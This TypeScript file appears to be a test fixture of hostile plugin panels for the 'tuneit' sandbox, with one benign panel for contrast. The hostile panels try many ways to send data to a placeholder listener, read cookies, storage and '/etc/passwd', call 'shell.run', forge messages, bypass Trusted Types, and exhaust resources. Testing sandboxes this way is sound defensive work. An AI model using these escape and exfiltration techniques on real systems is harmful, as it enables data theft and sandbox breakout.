/** What every hostile panel begins with: it notes what it got through, and tells it at the end by the one way it has. */
const tools = `
const got = [];
const later = (ms) => new Promise((done) => setTimeout(done, ms));
const attempt = async (name, act) => {
  try {
    const value = await Promise.race([act(), later(1500).then(() => "waits")]);
    if (value !== undefined && value !== "waits") got.push(name + ": " + String(value));
  } catch {}
};
const tell = () => tuneit.call("storage.set", { key: "got", value: JSON.stringify(got) });
`;

/** By row of the table; `$TARGET` is the listener, `host:port`, `$UDP` its port for packets, `$API` the server's origin. */
const bodies: Readonly<Record<string, string>> = {
  W01: `
    await attempt("fetch", async () => (await fetch("http://$TARGET/fetch", { mode: "no-cors" })).type);
    await attempt("api", async () => (await fetch("$API/api/v1/runs")).status);
    await attempt("xhr", () => new Promise((done) => { const x = new XMLHttpRequest(); x.onload = () => done("sent"); x.onerror = () => done(); x.open("GET", "http://$TARGET/xhr"); x.send(); }));
    await attempt("beacon", async () => { navigator.sendBeacon("http://$TARGET/beacon", "x"); });
    await attempt("socket", () => new Promise((done) => { const s = new WebSocket("ws://$TARGET/socket"); s.onopen = () => done("open"); s.onerror = () => done(); }));
    await attempt("events", () => new Promise((done) => { const s = new EventSource("http://$TARGET/events"); s.onopen = () => done("open"); s.onerror = () => { s.close(); done(); }; }));
    await attempt("transport", async () => { new WebTransport("https://$TARGET/transport"); return "made"; });
    await later(300);
    await tell();
  `,
  W02: `
    await attempt("image", () => new Promise((done) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = () => done(); i.src = "http://$TARGET/image"; }));
    await attempt("srcset", () => new Promise((done) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = () => done(); i.srcset = "http://$TARGET/srcset 2x"; }));
    await attempt("background", async () => { document.body.style.backgroundImage = "url(http://$TARGET/background)"; });
    await attempt("sheet", async () => { const s = new CSSStyleSheet(); s.replaceSync("body { list-style: url(http://$TARGET/sheet); cursor: url(http://$TARGET/cursor), auto } @import 'http://$TARGET/import';"); document.adoptedStyleSheets = [s]; });
    await attempt("font", async () => (await new FontFace("x", "url(http://$TARGET/font)").load()).status);
    await attempt("media", async () => { const v = document.createElement("video"); v.src = "http://$TARGET/video"; document.body.append(v); });
    await attempt("svg", async () => { const s = document.createElementNS("http://www.w3.org/2000/svg", "image"); s.setAttribute("href", "http://$TARGET/svg"); const r = document.createElementNS("http://www.w3.org/2000/svg", "svg"); r.append(s); document.body.append(r); });
    await attempt("preconnect", async () => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://$TARGET"; document.head.append(l); return "made"; });
    await attempt("prefetch", async () => { const l = document.createElementNS("http://www.w3.org/1999/xhtml", "x:link"); l.rel = "prefetch"; l.href = "http://$TARGET/prefetch"; document.head.append(l); return "made"; });
    await later(500);
    await tell();
  `,
  W03: `
    await attempt("import", async () => { await import("http://$TARGET/module.js"); return "loaded"; });
    await attempt("data import", async () => { await import("data:text/javascript,1"); return "loaded"; });
    await attempt("blob import", async () => { await import(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))); return "loaded"; });
    await attempt("worker", () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" }))); w.onmessage = () => done("runs"); w.onerror = () => done(); }));
    await attempt("service worker", async () => { await navigator.serviceWorker.register("./sw.js"); return "registered"; });
    await attempt("eval", async () => (0, eval)("1"));
    await attempt("function", async () => new Function("return 1")());
    await attempt("script", async () => { const s = document.createElement("script"); s.src = "http://$TARGET/script"; document.head.append(s); return "made"; });
    await attempt("timer", async () => { setTimeout("globalThis.ran = true", 0); await later(50); return globalThis.ran === true ? "ran" : undefined; });
    await tell();
  `,
  W04: `
    const connect = async (Peer) => {
      const peer = new Peer({ iceServers: [{ urls: "stun:127.0.0.1:$UDP" }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      await later(700);
      return "connected";
    };
    await attempt("own", () => connect(globalThis.RTCPeerConnection));
    await attempt("old name", () => connect(globalThis.webkitRTCPeerConnection));
    await attempt("prototype", async () => Object.getOwnPropertyNames(globalThis).filter((name) => /^(webkit)?RTCPeerConnection$/.test(name)).join() || undefined);
    await attempt("frame", () => { const f = document.createElement("iframe"); document.body.append(f); return connect(f.contentWindow.RTCPeerConnection); });
    await attempt("frame by namespace", () => { const f = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe"); document.body.append(f); return connect(f.contentWindow.RTCPeerConnection); });
    await attempt("frame of another document", () => { const f = document.implementation.createHTMLDocument().createElement("iframe"); document.body.append(f); return connect(f.contentWindow.RTCPeerConnection); });
    await attempt("frame by its own kind", () => { class F extends HTMLIFrameElement {} customElements.define("x-f", F, { extends: "iframe" }); const f = new F(); document.body.append(f); return connect(f.contentWindow.RTCPeerConnection); });
    await attempt("frameset", () => { const s = document.createElement("frameset"); const f = document.createElement("frame"); s.append(f); document.body.replaceWith(s); return connect(frames[0].RTCPeerConnection); });
    await attempt("object", () => { const o = document.createElement("object"); o.data = "about:blank"; document.body.append(o); return connect(o.contentWindow.RTCPeerConnection); });
    await attempt("markup", () => { document.body.innerHTML = "<iframe></iframe>"; return connect(frames[0].RTCPeerConnection); });
    await attempt("stylesheet language", async () => new XSLTProcessor().toString());
    await tell();
  `,
  W05: `
    await attempt("form", async () => { const f = document.createElement("form"); f.action = "http://$TARGET/form"; f.method = "post"; document.body.append(f); f.submit(); });
    await attempt("popup", async () => (window.open("http://$TARGET/popup") === null ? undefined : "opened"));
    await attempt("top", async () => { top.location.href = "http://$TARGET/top"; return "moved"; });
    await attempt("parent", async () => parent.document.title);
    await attempt("storage", async () => localStorage.length);
    await attempt("cookie", async () => { document.cookie = "a=b"; return document.cookie || undefined; });
    await attempt("anchor", async () => { const a = document.createElement("a"); a.href = "http://$TARGET/anchor"; a.target = "_blank"; a.ping = "http://$TARGET/ping"; document.body.append(a); a.click(); });
    await tell();
    await later(200);
    location.href = "http://$TARGET/self?" + document.title;
  `,
  W06: `
    got.push("origin " + origin);
    try { got.push("cookie " + document.cookie.length); } catch {}
    try { got.push("storage " + localStorage.length); } catch {}
    try { got.push("api " + (await fetch("$API/api/v1/system")).status); } catch {}
    document.body.textContent = JSON.stringify(got);
  `,
  W07: `
    for (let count = 0; count < 400; count += 1) void tuneit.call("storage.get", { key: "a" }).catch(() => undefined);
  `,
  W08: `
    await tell();
    for (;;) {}
  `,
  W09: `
    void tuneit.call("storage.set", { key: "big", value: "x".repeat(3_000_000) }).catch(() => undefined);
  `,
  W10: `
    const refusal = async (name, method, params) => { try { got.push(name + " " + JSON.stringify(await tuneit.call(method, params))); } catch (error) { got.push(name + " " + error.code); } };
    await refusal("unknown", "shell.run", { command: "id" });
    await refusal("more", "storage.get", { key: "a", path: "/etc/passwd" });
    await refusal("path", "storage.get", { key: "../token" });
    await refusal("prototype", "__proto__", {});
    await refusal("ungranted", "runs.metrics", { run: "r1" });
    await refusal("silent", "notice.show", { text: "x" });
    parent.postMessage("tuneit-panel-ready", "*");
    parent.postMessage({ is: "call", id: 1, method: "storage.set", params: { key: "forged", value: "1" } }, "*");
    const { port1 } = new MessageChannel();
    parent.postMessage({ is: "call" }, "*", [port1]);
    await tell();
  `,
  W11: `
    await attempt("own policy", async () => trustedTypes.createPolicy("mine", { createHTML: (x) => x }).createHTML("x"));
    await attempt("default policy", async () => trustedTypes.createPolicy("default", { createHTML: (x) => x }).createHTML("x"));
    await attempt("its policy, own rules", async () => String(trustedTypes.createPolicy("lit-html", { createHTML: () => "<script>1</script>", createScript: (x) => x }).createHTML("<p>")).includes("script") || undefined);
    await attempt("script by the policy", async () => String(trustedTypes.createPolicy("lit-html", {}).createScript("1")));
    for (const markup of ["<script>1</script>", "<ScRiPt src=x>", "<iframe src=x>", "<object data=x>", "<embed>", "<link rel=preconnect>", "<meta http-equiv=refresh>", "<base href=x>", "<p srcdoc=x>", "<svg><script>1</script>"])
      await attempt(markup, async () => String(trustedTypes.createPolicy("lit-html", {}).createHTML(markup)));
    await attempt("string", async () => { document.body.innerHTML = "<b>x</b>"; return "written"; });
    await attempt("parser", async () => new DOMParser().parseFromString("<b>x</b>", "text/html").body.textContent);
    const drawn = trustedTypes.createPolicy("lit-html", {}).createHTML("<p>drawn as Lit draws</p>");
    document.body.innerHTML = drawn;
    await tell();
  `,
};

/** The module of each row. */
export function attackModules(at: { target: string; udp: number; api: string }): Record<string, string> {
  const placed = (body: string): string =>
    body.replaceAll("$TARGET", at.target).replaceAll("$UDP", String(at.udp)).replaceAll("$API", at.api);
  return Object.fromEntries(Object.entries(bodies).map(([row, body]) => [row, `${tools}${placed(body)}`]));
}

/** One that does what it should: looks like the app, keeps something, asks for runs. */
export const honestModule = `
const { call, onLook } = tuneit;
onLook(({ theme, locale }) => { document.body.textContent = theme + " " + locale; });
await call("view.resize", { height: 500 });
const runs = await call("runs.list").catch(({ code }) => ["refused " + code]);
await call("storage.set", { key: "got", value: JSON.stringify(runs) });
`;
